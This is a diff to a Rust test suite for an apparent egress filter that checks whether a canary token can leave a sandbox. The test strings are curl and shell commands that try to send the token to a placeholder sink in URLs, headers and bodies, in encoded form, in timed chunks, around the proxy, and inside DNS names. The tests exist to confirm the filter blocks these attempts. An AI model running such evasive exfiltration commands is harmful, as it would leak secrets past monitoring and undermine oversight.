@@ -8,7 +8,7 @@ use serde_json::{Value as Json, json};
 use crate::canary::canary;
 use crate::guarded::{findings, has, record, run, security};
 use crate::lab;
-use crate::support::{Who, World};
+use crate::support::{Who, World, has_programs};
 use crate::vendor::{finish, shell, vendor, world};
 
 /// Writes every byte that it receives to a file.
@@ -88,35 +88,47 @@ const SINK: &str = "egress to sink.api.fullsend.internal:8080";
 
 #[test]
 fn the_canary_token_does_not_leave_in_any_part_of_a_request() {
-    stops("curl -sS -m9 THERE/WORD-AFTER", SINK);
-    stops("curl -sS -m9 'THERE/?a=WORD-AFTER'", SINK);
-    stops("curl -sS -m9 -H 'X-Note: WORD-AFTER' THERE/", SINK);
-    stops("curl -sS -m9 -d 'note=WORD WORD-AFTER' THERE/", SINK);
+    if !has_programs(&["curl", "python3"], "leaving") {
+        return;
+    }
+    stops("curl -sS -m60 THERE/WORD-AFTER", SINK);
+    stops("curl -sS -m60 'THERE/?a=WORD-AFTER'", SINK);
+    stops("curl -sS -m60 -H 'X-Note: WORD-AFTER' THERE/", SINK);
+    stops("curl -sS -m60 -d 'note=WORD WORD-AFTER' THERE/", SINK);
 }
 
 #[test]
 fn the_canary_token_does_not_leave_encoded_or_in_pieces() {
-    stops("printf WORD | base64 | curl -sS -m9 -d @- THERE/", SINK);
-    stops("printf WORD | od -An -tx1 | curl -sS -m9 -d @- THERE/", SINK);
-    stops("printf WORD | sed 's/./&-/g' | curl -sS -m9 -d @- THERE/", SINK);
+    if !has_programs(&["curl", "python3"], "leaving") {
+        return;
+    }
+    stops("printf WORD | base64 | curl -sS -m60 -d @- THERE/", SINK);
+    stops("printf WORD | od -An -tx1 | curl -sS -m60 -d @- THERE/", SINK);
+    stops("printf WORD | sed 's/./&-/g' | curl -sS -m60 -d @- THERE/", SINK);
     // In separate chunks, some time apart.
     stops(
-        "(for c in $(printf WORD-AFTER | sed 's/......../& /g'); do printf %s $c; sleep 0.2; done) | curl -sS -m9 -T - THERE/",
+        "(for c in $(printf WORD-AFTER | sed 's/......../& /g'); do printf %s $c; sleep 0.2; done) | curl -sS -m60 -T - THERE/",
         SINK,
     );
     // Without the proxy's port: the address that is dialled names the server.
-    stops("curl -sS -m9 --noproxy '*' -d WORD-AFTER THERE/", SINK);
+    stops("curl -sS -m60 --noproxy '*' -d WORD-AFTER THERE/", SINK);
 }
 
 #[test]
 fn the_canary_token_does_not_leave_as_a_name() {
-    stops("curl -sS -m9 https://WORD.example/", "egress to ");
+    if !has_programs(&["curl", "python3"], "leaving") {
+        return;
+    }
+    stops("curl -sS -m60 https://WORD.example/", "egress to ");
     stops("getent hosts WORD.example", "egress to ");
 }
 
 #[test]
 fn a_leak_is_only_recorded_with_fail_mode_open_and_clean_requests_pass() {
-    let open = sending("curl -sS -m9 -d WORD-AFTER THERE/", &format!("{{fail_mode: open, {SWITCHES}}}"));
+    if !has_programs(&["curl", "python3"], "leaving") {
+        return;
+    }
+    let open = sending("curl -sS -m60 -d WORD-AFTER THERE/", &format!("{{fail_mode: open, {SWITCHES}}}"));
     let ran = run(&open);
     assert_eq!(ran.code, 0, "{}", ran.err);
     assert!(has(&findings(&open), "canary", "reported"));
@@ -128,7 +140,7 @@ fn a_leak_is_only_recorded_with_fail_mode_open_and_clean_requests_pass() {
         findings(&open).iter().filter(leaks).count()
     };
     assert_eq!((at(""), at("transcripts/")), (2, 1), "once where it left, once in the transcripts");
-    let clean = sending("curl -sS -m9 -d 'nothing of it' THERE/", &format!("{{{SWITCHES}}}"));
+    let clean = sending("curl -sS -m60 -d 'nothing of it' THERE/", &format!("{{{SWITCHES}}}"));
     assert_eq!(run(&clean).code, 0);
     assert!(
         arrived(&clean).contains("nothing of it") && findings(&clean).is_empty(),
@@ -195,6 +207,9 @@ fn over_tls(who: Who, command: &str) -> Option<(i32, String)> {
 
 #[test]
 fn the_canary_token_does_not_leave_over_inspected_tls() {
+    if !has_programs(&["curl", "python3"], "leaving") {
+        return;
+    }
     for who in [Who::Caller, Who::User] {
         for command in [
             "curl -sS -m20 -H 'X-Note: WORD-AFTER' https://other.lab.test/",
